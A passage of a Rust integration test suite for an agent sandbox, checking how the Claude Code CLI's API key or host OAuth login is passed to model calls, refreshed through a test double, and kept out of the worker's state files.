            cmd = cmd.env("ANTHROPIC_API_KEY", k);
        }
        cmd.run()
    };
    // No key: the host's login, its access token on the model calls.
    run(None).assert_success().assert_stdout_contains("ok");
    let bearer = format!("Bearer {access}");
    let first = up.seen();
    let calls = model_calls(&first);
    assert!(!calls.is_empty(), "{first:#?}");
    assert!(calls
        .iter()
        .all(|c| c.header("authorization") == Some(bearer.as_str())));
    // Control: with a key, the key goes on them (the login is not used).
    let key = format!("sk-ant-api03-key-{}", fx.id);
    run(Some(&key)).assert_success();
    let seen = up.seen();
    let later = model_calls(&seen[first.len()..]);
    assert!(!later.is_empty(), "{seen:#?}");
    assert!(later.iter().all(
        |c| c.header("x-api-key") == Some(key.as_str()) && c.header("authorization").is_none()
    ));
    // Neither: the refusal names both fixes.
    std::fs::remove_file(&host).unwrap_or_else(|e| panic!("{e}"));
    run(None)
        .assert_failure()
        .assert_stderr_contains("E_CREDENTIAL_UNAVAILABLE")
        .assert_stderr_contains("export ANTHROPIC_API_KEY")
        .assert_stderr_contains("log in with `claude` on the host");
}

/// Claude Code's prompt is ready (the footer under its input box), and what it shows instead
/// when it asks something first or stops (as in agent_interactive.rs).
const CLAUDE_READY: &[&str] = &["? for shortcuts", "shift+tab to cycle"];
const CLAUDE_ASKS: &[&str] = &[
    "Unable to connect to Anthropic services",
    "Do you want to use this API key",
    "Quick safety check",
    "Choose the text style",
    "Select login method",
    "Please run /login",
    "OAuth token has expired",
];

#[test]
fn interactively_an_expired_login_is_renewed_and_the_prompt_answers_twice() {
    if attacks::messages::CLAUDE_CLI.skip() {
        return;
    }
    let claude = claude();
    let fx = Fixture::new();
    let access = format!("sk-ant-oat01-real-{}", fx.id);
    let refresh = format!("sk-ant-ort01-real-{}", fx.id);
    let host = host_login(&fx, &access, &refresh, now_ms() - 3600 * 1000);
    let renewed = Renewed {
        access: format!("sk-ant-oat01-renewed-{}", fx.id),
        refresh: format!("sk-ant-ort01-renewed-{}", fx.id),
    };
    let new_access = renewed.access.clone();
    let answer = "HELLO-FROM-THE-DOUBLE";
    let double = script(String::new(), Arc::new(Mutex::new(Some(renewed))));
    let up = Upstream::start_with(Some(Arc::new(move |seen: &Seen| {
        if seen.target.contains("count_tokens") {
            return br#"{"input_tokens":1}"#.to_vec();
        }
        if seen.target.starts_with("/v1/messages") {
            let body = String::from_utf8_lossy(&seen.body);
            return reply(body.contains("\"stream\":true"), None, answer);
        }
        double(seen)
    })));
    // The README's recipe; the policy file makes the double the route and the token endpoint.
    let policy = policy_file(&fx, &up);
    let cmd = fx
        .sandbox_argv(
            &["--policy", &policy, "--agent", "claude-code"],
            &[claude.to_str().unwrap_or_default()],
        )
        .env("SSL_CERT_FILE", &up.ca_file)
        .env("TERM", "xterm-256color");
    let start = Duration::from_secs(240);
    for prompt in ["say hello", "say hello again"] {
        let (argv, env, cwd) = cmd.parts();
        let s = attacks::pty::Screen::start(&fx.root, &cwd, &env, &argv);
        if let Err(e) = s.wait_for(CLAUDE_READY, CLAUDE_ASKS, start) {
            panic!("Claude Code did not start at its prompt: {e}");
        }
        s.type_text(prompt);
        std::thread::sleep(Duration::from_millis(500));
        s.keys(&["Enter"]);
        if let Err(e) = s.wait_for(&[answer], CLAUDE_ASKS, start) {
            panic!("no answer on the screen: {e}");
        }
        println!("--- the screen:\n{}", s.text());
        s.quit();
    }
    let seen = up.seen();
    // One real refresh, at the fixed endpoint; every model call with the renewed token.
    let refreshes = seen
        .iter()
        .filter(|s| s.target.starts_with("/v1/oauth/token"))
        .count();
    assert_eq!(refreshes, 1, "{seen:#?}");
    let calls = model_calls(&seen);
    assert!(calls.len() >= 2, "{seen:#?}");
    let bearer = format!("Bearer {new_access}");
    assert!(
        calls
            .iter()
            .all(|c| c.header("authorization") == Some(bearer.as_str())),
        "{calls:#?}"
    );
    assert_eq!(
        json_str(&read_json(&host)["claudeAiOauth"], "accessToken"),
        new_access
    );
    for f in walk(&worker_state(&fx), &|_| false) {
        let text = String::from_utf8_lossy(&read_bytes(&f).unwrap_or_default()).into_owned();
        assert!(
            !text.contains("-real-") && !text.contains("-renewed-"),
            "{} holds a real token",
            f.display()
        );
    }
}
